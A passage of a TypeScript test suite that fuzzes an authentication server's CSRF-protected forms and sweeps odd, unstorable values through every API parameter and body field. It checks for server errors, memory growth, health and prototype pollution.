    t.ok(pageForms.some((op) => op.path === path), `${path} is fuzzed past its CSRF defence`)
  }
})

for (const op of pageForms) {
  const { path } = op
  t.test(`POST ${path}: ${RUNS} hostile fields past the CSRF defence (a real interaction, csrf, cookies and Origin), no 5xx, never framed`, async (t) => {
    if (!op.body?.properties) return
    const pages = await hostedPages(await freshCredentials())
    const valid = op.body.properties.logout ? pages.logout : pages.consent
    const headers = { cookie: pages.cookie, origin: new URL(app.config.issuer).origin }
    const field = (name: string, schema: Schema) => fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...(FORM_VALUES[name] ?? ['x'])) },
      { weight: 2, arbitrary: fc.string({ maxLength: 60 }) },
      { weight: 1, arbitrary: fuzzValue(schema) }
    )
    const input = fc.record({
      fields: fc.record(Object.fromEntries(Object.entries(op.body.properties).map(([name, schema]) => [name, field(name, schema)]))),
      keepValid: fc.oneof({ weight: 3, arbitrary: fc.constant(true) }, { weight: 1, arbitrary: fc.constant(false) }),
      // Now and then a body hostile as a whole (wrong type, extra keys, nesting).
      whole: fc.oneof({ weight: 4, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fuzzValue(op.body) }),
      encoding: fc.constantFrom('json', 'form'),
    })
    await fc.assert(
      fc.asyncProperty(input, async ({ fields, keepValid, whole, encoding }) => {
        const body = whole ?? { ...fields, ...(keepValid ? valid : {}) }
        const payload = encoding === 'json'
          ? JSON.stringify(body) ?? ''
          : typeof body === 'object' && body !== null
            ? Object.entries(body).map(([k, v]) => `${safeEncode(k)}=${safeEncode(asText(v))}`).join('&')
            : `value=${safeEncode(asText(body))}`
        const type = encoding === 'json' ? 'application/json' : 'application/x-www-form-urlencoded'
        await judge({ method: 'POST', url: path, headers: { ...headers, 'content-type': type }, payload }, true)
      }),
      { numRuns: RUNS }
    )
    t.pass(`POST ${path}`)
  })
}

// ------------------------------------------------------------------ the sweep of unstorable values

/** A value the schema accepts, chosen to get past validation and reach the handler. */
function plausible (schema: Schema, name: string, c: Credentials): unknown {
  const known: Record<string, unknown> = {
    email: `sweep-${++accounts}-${Date.now()}@fuzz.test`,
    username: `sweep-${accounts}@fuzz.test`,
    password: PASSWORD,
    currentPassword: PASSWORD,
    newPassword: 'another fine passphrase',
    grant_type: 'password',
    scopes: ['profile'],
    refresh_token: c.userRefresh,
    token: c.userRefresh,
    // Webhook registration and changes (the only body fields so named): an address the SSRF guard accepts, and an event type hardly ever emitted.
    url: WEBHOOK_URL,
    events: ['webhook_replayed'],
  }
  if (name in known) return known[name]
  if (schema.enum) return schema.enum[0]
  if (schema.anyOf) return plausible(schema.anyOf.find((branch) => branch.type !== 'null') ?? schema.anyOf[0]!, name, c)
  switch (schema.type) {
    case 'string':
      if (schema.format === 'uuid') return randomUUID()
      if (schema.format === 'date-time') return new Date(Date.now() + 86_400_000).toISOString()
      if (schema.pattern) return fc.sample(fc.stringMatching(new RegExp(schema.pattern)), { numRuns: 1, seed: 7 })[0]
      return 'x'.repeat(Math.max(1, schema.minLength ?? 1))
    case 'integer':
    case 'number':
      return schema.minimum ?? 1
    case 'boolean':
      return false
    case 'array':
      return schema.items ? [plausible(schema.items, name, c)] : []
    case 'object':
      return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([key, sub]) => [key, plausible(sub, key, c)]))
    default:
      return 'x'
  }
}

/** A real id for a path parameter, so the value swept elsewhere reaches the handler. */
function pathId (op: Operation, name: string, c: Credentials): string {
  if (op.path.startsWith('/admin/webhooks')) return name === 'deliveryId' ? c.deliveryId : c.webhookId
  return op.path.includes('session') ? c.sessionId : c.userId
}

/** The strongest credential an operation takes, so the value gets past authentication. */
function sweepAuth (op: Operation, c: Credentials): Record<string, string> {
  if (op.path.startsWith('/admin')) return { authorization: `Bearer ${c.admin}` }
  if (op.path === '/auth/introspect') return { authorization: `Bearer ${c.introspectKey}` }
  return { authorization: `Bearer ${c.user}` }
}

t.test('sweep: every unstorable value in every parameter and top-level body field of every operation, no 5xx', async (t) => {
  let sent = 0
  let fields = 0
  for (const op of operations) {
    const c = await freshCredentials()
    const targets: { where: 'path' | 'query' | 'header' | 'body'; name: string }[] = [
      ...op.parameters.map((p) => ({ where: p.in, name: p.name })),
      ...Object.keys(op.body?.properties ?? {}).map((name) => ({ where: 'body' as const, name })),
    ]
    fields += targets.length
    for (const target of targets) {
      for (const value of UNSTORABLE) {
        const params: Record<string, unknown> = Object.fromEntries(
          op.parameters.filter((p) => p.in === 'path').map((p) => [p.name, pathId(op, p.name, c)])
        )
        const query: Record<string, unknown> = {}
        const headers: Record<string, unknown> = {}
        const body = op.body ? (plausible(op.body, '', c) as Record<string, unknown>) : undefined
        if (target.where === 'path') params[target.name] = typeof value === 'string' ? value.replaceAll('\u0000', '%00') : value
        else if (target.where === 'query') query[target.name] = value
        else if (target.where === 'header') headers[target.name] = value
        else if (body) body[target.name] = value
        const request = buildRequest(op, { auth: 0, params, query, rawQuery: '', headers, body, encoding: 'json', raw: '' }, c)
        Object.assign(request.headers, sweepAuth(op, c))
        const response = await app.inject(request)
        sent++
        statuses.set(response.statusCode, (statuses.get(response.statusCode) ?? 0) + 1)
        if (response.statusCode >= 500 && !response.body.includes('revocation_state_unavailable')) {
          t.fail(`${op.method} ${op.path} ${target.where} ${target.name}=${JSON.stringify(value).slice(0, 80)}: ${response.statusCode} ${response.body.slice(0, 200)}`)
        }
      }
    }
  }
  t.ok(fields >= 20, `${fields} parameters and body fields over ${operations.length} operations`)
  t.equal(sent, fields * UNSTORABLE.length, `${sent} requests: each of the ${UNSTORABLE.length} values in each field`)
})

t.test('after the fuzzing: still serving, heap flat', async (t) => {
  t.equal((await app.inject({ method: 'GET', url: '/health' })).statusCode, 200, 'health')
  t.equal((await app.inject({ method: 'GET', url: '/ready' })).statusCode, 200, 'ready (database reachable)')
  const after = await heapUsedMb()
  const growth = after - heapBefore
  t.ok(growth < HEAP_GROWTH_LIMIT_MB, `heap after GC ${heapBefore.toFixed(1)} MB → ${after.toFixed(1)} MB (+${growth.toFixed(1)} MB, bound ${HEAP_GROWTH_LIMIT_MB} MB)`)
  t.ok(inputs >= operations.length * RUNS, `${inputs} inputs over ${operations.length} operations`)
  t.comment(`${shed} inputs were first shed with 503 revocation_state_unavailable (machine load) and judged on a resend`)
  t.comment(`statuses: ${JSON.stringify(Object.fromEntries([...statuses].sort((a, b) => a[0] - b[0])))}`)
  t.equal(({} as Record<string, unknown>).x, undefined, 'Object.prototype not polluted')
})
